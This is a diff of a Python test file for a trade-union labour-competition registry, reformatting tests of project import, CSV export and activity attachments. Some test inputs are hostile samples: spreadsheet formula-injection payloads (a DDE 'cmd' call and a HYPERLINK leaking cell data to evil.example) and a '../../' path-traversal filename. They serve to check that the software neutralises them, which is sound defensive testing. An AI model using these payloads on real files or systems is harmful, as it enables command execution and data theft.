@@ -44,7 +44,9 @@ def test_project_import(reg: Registry, tmp_path: Path, make):
     path = make(tmp_path / ("p.xlsx" if make is _xlsx else "p.csv"))
     assert reg.import_projects(path) == 4
     assert [(p.name, p.level, p.district) for p in reg.projects()][:2] == [
-        ("哈尔滨新区智能制造产业园", "省百大", "松北区"), ("哈电机大型水电机组改造", "市重点", "松北区")]  # fmt: skip
+        ("哈尔滨新区智能制造产业园", "省百大", "松北区"),
+        ("哈电机大型水电机组改造", "市重点", "松北区"),
+    ]
     assert reg.import_projects(path) == 4 and len(reg.projects()) == 4  # re-import updates, never duplicates
     assert [p.name for p in reg.find_projects("冷链")] == ["道里区冷链物流中心"]
     assert reg.check_field("project_id", "地铁3号线二期", draft={}) == reg.find_projects("地铁")[0].id
@@ -74,18 +76,39 @@ def dataset(reg: Registry, tmp_path: Path) -> Registry:
     songbei, daoli = reg.get_user("songbei"), reg.get_user("daoli")
     p1 = reg.find_projects("智能制造")[0].id
     reg.register_competition(competition(project_id=p1, planned=100, total=400), by=songbei)
-    reg.register_competition(competition(name="五小创新", type="五小", ownership="非公", unit="某民营企业",
-                                         planned=50, total=100, union_name="道里区总工会"), by=daoli)  # fmt: skip
-    c3 = reg.register_competition(competition(name="=cmd|' /C calc'!A0", type="安康杯", union_name="外地工会",
-                                              planned=30, total=50, description="含“引号”，和逗号"), by=admin)  # fmt: skip
+    reg.register_competition(
+        competition(
+            name="五小创新",
+            type="五小",
+            ownership="非公",
+            unit="某民营企业",
+            planned=50,
+            total=100,
+            union_name="道里区总工会",
+        ),
+        by=daoli,
+    )
+    c3 = reg.register_competition(
+        competition(
+            name="=cmd|' /C calc'!A0",
+            type="安康杯",
+            union_name="外地工会",
+            planned=30,
+            total=50,
+            description="含“引号”，和逗号",
+        ),
+        by=admin,
+    )
     reg.set_status(c3.id, "进行中", by=admin)
     for day, kind in (
         (dt.date(2026, 5, 26), "动员会"),
         (dt.date(2026, 6, 3), "培训"),
         (dt.date(2026, 6, 20), "板报"),
     ):
-        reg.record_activity({"kind": kind, "date": day, "place": "会议室", "participants": 40, "summary": "全体职工参加"},
-                            by=songbei)  # fmt: skip
+        reg.record_activity(
+            {"kind": kind, "date": day, "place": "会议室", "participants": 40, "summary": "全体职工参加"},
+            by=songbei,
+        )
     return reg
 
 
@@ -168,9 +191,16 @@ def test_csv_export_has_bom_and_chinese_headers(dataset: Registry):
 
 @pytest.mark.parametrize(
     "payload",
-    ['=1+HYPERLINK("http://evil.example/?leak="&B2,"详情")', "=2+5+cmd|' /C calc'!A0", "-2+3", "+1",
-     "@SUM(A1)", "\t=1", "\r=1"],
-)  # fmt: skip
+    [
+        '=1+HYPERLINK("http://evil.example/?leak="&B2,"详情")',
+        "=2+5+cmd|' /C calc'!A0",
+        "-2+3",
+        "+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+    ],
+)
 def test_csv_neutralises_every_formula_start(reg: Registry, payload: str):
     admin = reg.ensure_local_admin()
     stored = reg.register_competition(competition(description=payload), by=admin).description
@@ -191,10 +221,18 @@ def test_activity_with_attachments(dataset: Registry):
     songbei = dataset.get_user("songbei")
     c = dataset.competitions(user=songbei)[0]
     a = dataset.record_activity(
-        {"kind": "其他", "kind_other": "劳模宣讲", "date": "2026-06-05", "place": "工地", "participants": 30,
-         "summary": "宣讲", "competition_id": c.reg_no},
-        by=songbei, files=[("../../照片.jpg", b"\xff\xd8jpeg"), ("说明.pdf", b"%PDF")],
-    )  # fmt: skip
+        {
+            "kind": "其他",
+            "kind_other": "劳模宣讲",
+            "date": "2026-06-05",
+            "place": "工地",
+            "participants": 30,
+            "summary": "宣讲",
+            "competition_id": c.reg_no,
+        },
+        by=songbei,
+        files=[("../../照片.jpg", b"\xff\xd8jpeg"), ("说明.pdf", b"%PDF")],
+    )
     assert (a.kind, a.kind_other, a.competition_id, a.organiser) == ("其他", "劳模宣讲", c.id, "松北区总工会")
     first = a.attachments[0]
     assert first.filename == "照片.jpg" and first.size == 6
@@ -204,5 +242,7 @@ def test_activity_with_attachments(dataset: Registry):
     assert dataset.activities(user=songbei, competition_id=c.id) == [a]
     assert dataset.activities(user=dataset.get_user("daoli"), competition_id=c.id) == []
     with pytest.raises(InvalidValue, match="请写明具体的活动形式"):
-        dataset.record_activity({"kind": "其他", "date": dt.date(2026, 6, 1), "place": "x", "participants": 1,
-                                 "summary": "x"}, by=songbei)  # fmt: skip
+        dataset.record_activity(
+            {"kind": "其他", "date": dt.date(2026, 6, 1), "place": "x", "participants": 1, "summary": "x"},
+            by=songbei,
+        )
